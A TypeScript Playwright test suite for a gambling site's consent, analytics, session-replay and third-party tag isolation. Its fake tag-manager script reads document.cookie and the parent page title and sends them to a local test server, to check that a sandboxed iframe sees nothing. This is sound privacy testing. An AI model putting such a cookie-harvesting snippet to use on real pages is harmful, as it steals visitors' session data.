import { once } from "node:events";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright";
import { afterAll, expect } from "vitest";
import { consentText, type Purpose } from "../../rules/consent.ts";
import { flowsIn, type World } from "../world/world.ts";
import { betsShown } from "./playing.ts";
import { tableIsAlive } from "./player.ts";

/** Third parties that answer, or do not: what they were asked, in order. */
async function openOutside() {
  const asked: { path: string; body: string }[] = [];
  const way = { hangs: false };
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      if (request.method !== "OPTIONS") asked.push({ path: request.url ?? "", body: Buffer.concat(chunks).toString() });
      if (way.hangs) return;
      response.writeHead(200, {
        "Content-Type": "text/javascript",
        "Access-Control-Allow-Origin": request.headers.origin ?? "*",
        "Access-Control-Allow-Headers": "content-type",
      });
      response.end(request.url?.startsWith("/tags.js") ? script : "");
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  afterAll(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://127.0.0.1:${port}`,
    way,
    asked: (path: string) => asked.filter((each) => each.path.startsWith(path)),
    forget: () => void asked.splice(0),
  };
}

/** Sends on what it hears, and what it can see of the page around it. */
const script = `
  const to = document.currentScript.src.replace(/tags.*/, "heard?");
  const looked = (look) => { try { return look() } catch { return "nothing" } };
  const seen = looked(() => parent.document.title) + ", " + looked(() => document.cookie);
  const tell = (entry) => fetch(to + encodeURIComponent(JSON.stringify({ entry, seen })), { mode: "no-cors" });
  dataLayer.forEach(tell);
  dataLayer.push = tell;
`;

const outside = await openOutside();
const test = flowsIn({
  KARAT_TAG_MANAGER: `${outside.address}/tags.js?id=1`,
  KARAT_TAG_MANAGER_REACHES: `${outside.address}/heard`,
  KARAT_CUSTOMER_DATA: `${outside.address}/batch`,
  KARAT_CUSTOMER_DATA_KEY: "write-key",
  KARAT_REPLAY_SHARE: "100",
});

type Device = Awaited<ReturnType<World["device"]>>;

/** As somebody is who has chosen before. */
const chose = (world: World, device: Device, ...purposes: Purpose[]) =>
  device.context.addCookies([{ name: "consent", value: consentText(purposes, false), url: world.origin }]);

const today = () => new Date().toISOString().slice(0, 10);
/** Somewhere where nothing is pressed by it. */
const touch = (page: Page) => page.mouse.click(2, 2);
/** A page listens for that from a moment after its start on. */
const touchUntilItReports = (page: Page) =>
  expect
    .poll(async () => {
      await touch(page);
      return page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
    })
    .toContainEqual(expect.stringContaining("/assets/reports-"));

test("nothing is reported without consent, and with it what happens, once and with its reasons", async ({ world }) => {
  const day = today();
  const refusing = await world.device({ isAsked: true });
  await chose(world, refusing);
  const quiet = await refusing.open("/en");
  await touch(quiet);
  await quiet.goto(`${world.origin}/en/faq`);
  await touch(quiet);

  const device = await world.device({ isAsked: true });
  await chose(world, device, "analytics");
  const page = await device.open("/en/faq");
  expect(world.line.count("POST /analytics")).toBe(0);
  await touchUntilItReports(page);
  await page.getByRole("banner").getByRole("button", { name: "Log in" }).click();
  const form = page.getByRole("dialog");
  await form.getByLabel("Email", { exact: true }).fill("nobody@karat.example");
  await form.getByLabel("Password", { exact: true }).fill("wrong-horse-7");
  await form.getByRole("button", { name: "Log in", exact: true }).click();
  await expect.poll(() => world.line.count("POST /api/v2/auth/login/email/password")).toBe(1);
  await expect.poll(() => world.line.count("POST /analytics/events")).toBeGreaterThan(0);
  // What it has not sent yet goes as it is left.
  await page.evaluate(() => void setTimeout(() => location.assign("about:blank")));
  const report = () => world.command("analytics", day, today());
  await expect.poll(report).toMatch(/login_failed: \S.* +1 +1/);
  const said = await report();
  expect(said).toMatch(/page_view: \/faq +1 +1/);
  expect(said).toMatch(/web_vital: FCP +1 +1/);
  expect(await quiet.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name))).not.toContain(
    "karat-analytics",
  );
  // What is agreed to is analytics alone.
  for (const path of ["/tags.js", "/heard"]) expect(outside.asked(path)).toEqual([]);
});

test("third parties hear of pages that are not private and of no other, are gone where one logs in, and see nothing", async ({
  world,
}) => {
  outside.forget();
  const device = await world.device({ isAsked: true });
  await chose(world, device, "analytics", "advertising");
  const page = await device.open("/en/password/reset");
  await touchUntilItReports(page);
  await page.goto(`${world.origin}/en/faq`);
  const frame = page.locator("iframe[sandbox]");
  await touchUntilItReports(page);
  const heard = () =>
    outside.asked("/heard").map(({ path }) => JSON.parse(decodeURIComponent(path.split("?")[1] ?? "")) as object);
  await expect.poll(heard).toContainEqual({ entry: { event: "page_view", path: "/faq" }, seen: "nothing, nothing" });
  const batches = () =>
    outside
      .asked("/batch")
      .map(({ body }) => body)
      .join("\n");
  await expect.poll(batches).toContain('"properties":{"path":"/faq"}');
  expect(await frame.count()).toBe(1);

  await page.getByRole("banner").getByRole("button", { name: "Log in" }).click();
  await expect.poll(() => frame.count()).toBe(0);
  const before = outside.asked("/").length;
  const form = page.getByRole("dialog");
  await form.getByLabel("Email", { exact: true }).fill("nobody@karat.example");
  await form.getByLabel("Password", { exact: true }).fill("wrong-horse-7");
  await form.getByRole("button", { name: "Log in", exact: true }).click();
  const sent = world.line.count("POST /analytics/events");
  await expect.poll(() => world.line.count("POST /analytics/events")).toBeGreaterThan(sent);
  expect(outside.asked("/")).toHaveLength(before);
  await page.keyboard.press("Escape");
  await expect.poll(() => frame.count()).toBe(1);
  expect(JSON.stringify(heard()) + batches()).not.toMatch(/password|login_failed|nobody/);
});

test("a visit is recorded without what was typed, pauses at a login, and is read by a command", async ({ world }) => {
  const events = () => world.line.count("POST /analytics/events");
  const eventsBefore = events();
  const device = await world.device({ isAsked: true });
  await chose(world, device, "replay");
  const page = await device.open("/en/faq");
  await touchUntilItReports(page);
  await page.getByRole("searchbox").first().fill("canary-4711");
  const parts = () => world.line.count("POST /analytics/replays");
  await expect.poll(parts).toBeGreaterThan(0);
  await page.getByRole("banner").getByRole("button", { name: "Log in" }).click();
  await page.getByRole("dialog").getByLabel("Email", { exact: true }).fill("canary@karat.example");
  await page.keyboard.press("Escape");
  const before = parts();
  await page.mouse.move(200, 300);
  await expect.poll(parts).toBeGreaterThan(before);
  let text = "";
  // A page and its whole document, twice: it has begun again after the login, and a part of before it may come late.
  const documents = async () => {
    text = await recordingOf(world);
    return (JSON.parse(text) as { type: number }[]).filter(({ type }) => type === 2).length;
  };
  await expect.poll(documents).toBeGreaterThan(1);
  expect(text).not.toMatch(/canary/);
  expect(events()).toBe(eventsBefore);
});

/** What the visit recorded last has become. */
async function recordingOf(world: World): Promise<string> {
  const [, recording = ""] = /^([0-9a-f-]{36})/m.exec(await world.command("replays")) ?? [];
  const folder = await mkdtemp(join(tmpdir(), "karat-replay-"));
  const file = join(folder, "visit.json");
  expect(await world.command("replays", recording, file)).toMatch(/has \d+ events\./);
  const text = await readFile(file, "utf8");
  await rm(folder, { recursive: true });
  return text;
}

test("whoever leaves a private page is recorded once nothing of it is on the screen", async ({ world }) => {
  const device = await world.device({ isAsked: true });
  await device.enter(await world.player());
  await chose(world, device, "replay");
  const page = await device.open("/en/faq");
  await touchUntilItReports(page);
  const parts = () => world.line.count("POST /analytics/replays");
  const before = parts();
  await expect.poll(parts).toBeGreaterThan(before);
  await page.getByRole("link", { name: "Profile" }).first().click();
  await page.getByText("Signed up").waitFor();
  await page.getByRole("contentinfo").getByRole("link", { name: "Tournaments" }).click();
  await page.getByRole("heading", { name: "Tournaments", level: 1 }).waitFor();
  let text = "";
  // A page's whole document, once of each that is not private.
  const documents = async () => {
    text = await recordingOf(world);
    return (JSON.parse(text) as { type: number }[]).filter(({ type }) => type === 2).length;
  };
  await expect.poll(documents).toBe(2);
  expect(text).not.toContain("Signed up");
});

test("a tag manager that hangs, and collectors that fail, leave a table whole", async ({ world }) => {
  outside.way.hangs = true;
  await world.desk("/network", { match: "/analytics", fault: "status", status: 500, times: 1_000 });
  const player = await world.player({ balance: "1000.00" });
  const device = await world.device({ isAsked: true });
  await device.enter(player);
  await chose(world, device, "analytics", "advertising", "replay");
  const table = await device.open("/en/games/dice");
  await tableIsAlive(table);
  await table.getByRole("button", { name: "Place bet" }).click();
  await expect.poll(() => betsShown(table)).toBe(1);
  await expect.poll(() => outside.asked("/tags.js").length).toBeGreaterThan(0);
  await table.getByRole("button", { name: "Place bet" }).click();
  await expect.poll(() => betsShown(table)).toBe(2);
  outside.way.hangs = false;
});
